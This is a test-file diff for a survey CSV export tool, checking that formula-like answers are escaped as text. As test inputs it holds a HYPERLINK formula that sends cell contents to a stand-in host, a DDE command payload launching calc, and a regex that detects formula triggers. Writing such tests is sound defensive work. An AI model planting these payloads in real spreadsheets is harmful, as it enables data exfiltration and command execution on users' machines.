@@ -104,6 +104,38 @@ describe('export-survey', () => {
     expect(io.stderr.some((l) => /site\(s\) had fewer/.test(l))).toBe(false);
   });
 
+  it('writes formula-like answers as text even without --excel, and keeps numbers numeric', async () => {
+    const hostile = sampleTracker(h, 'Hostile answers tracker').id;
+    const tab = tabValues(h.ws, hostile, 'Survey Responses');
+    const letter = (index: number): string => (index >= 26 ? letter(Math.floor(index / 26) - 1) : '') + String.fromCharCode(65 + (index % 26));
+    const column = (name: string) => letter(tab[0].map(String).indexOf(name));
+    const scoreColumn = letter(tab[0].map(String).findIndex((t) => t.startsWith('Score:') && t.endsWith('[role_clarity]')));
+    await h.apis().sheets.spreadsheets.values.batchUpdate({
+      spreadsheetId: hostile,
+      requestBody: {
+        valueInputOption: 'RAW',
+        data: [
+          { range: `'Survey Responses'!${column('Site')}2`, values: [['=HYPERLINK("http://x.example/?"&A1,"Open")']] },
+          { range: `'Survey Responses'!${column('Participant code')}2:${column('Participant code')}4`, values: [["=cmd|' /C calc'!A0"], ['@SUM(1+1)'], ['-2+3']] },
+          { range: `'Survey Responses'!${scoreColumn}2`, values: [[-2]] },
+        ],
+      },
+    });
+    const io = captureIO(env(h));
+    const out = join(dir, 'hostile.csv');
+    expect(await main(['--tracker', hostile, '--out', out, '--min-group-size', '1'], io)).toBe(0);
+    const text = readFileSync(out, 'utf8');
+    const [header, ...rows] = parseCsv(text).map((l) => l.cells);
+    expect(text.charCodeAt(0)).not.toBe(0xfeff);
+    expect(rows[0][header.indexOf('Site')]).toBe('\'=HYPERLINK("http://x.example/?"&A1,"Open")');
+    expect(rows.slice(0, 3).map((r) => r[header.indexOf('Participant code')])).toEqual(["'=cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"]);
+    expect(rows[0][header.indexOf('role_clarity_score')]).toBe('-2');
+    expect(text).toMatch(/,-2(,|\r\n)/);
+    // No cell of the data or the codebook starts with a formula trigger.
+    const cells = [...parseCsv(text), ...parseCsv(readFileSync(join(dir, 'hostile.codebook.csv'), 'utf8'))].flatMap((l) => l.cells);
+    expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(cell))).toEqual([]);
+  });
+
   it('guards formula-like text and adds a byte order mark with --excel', async () => {
     const tab = new Map<string, (string | number)[][]>([
       ['Survey Responses', [
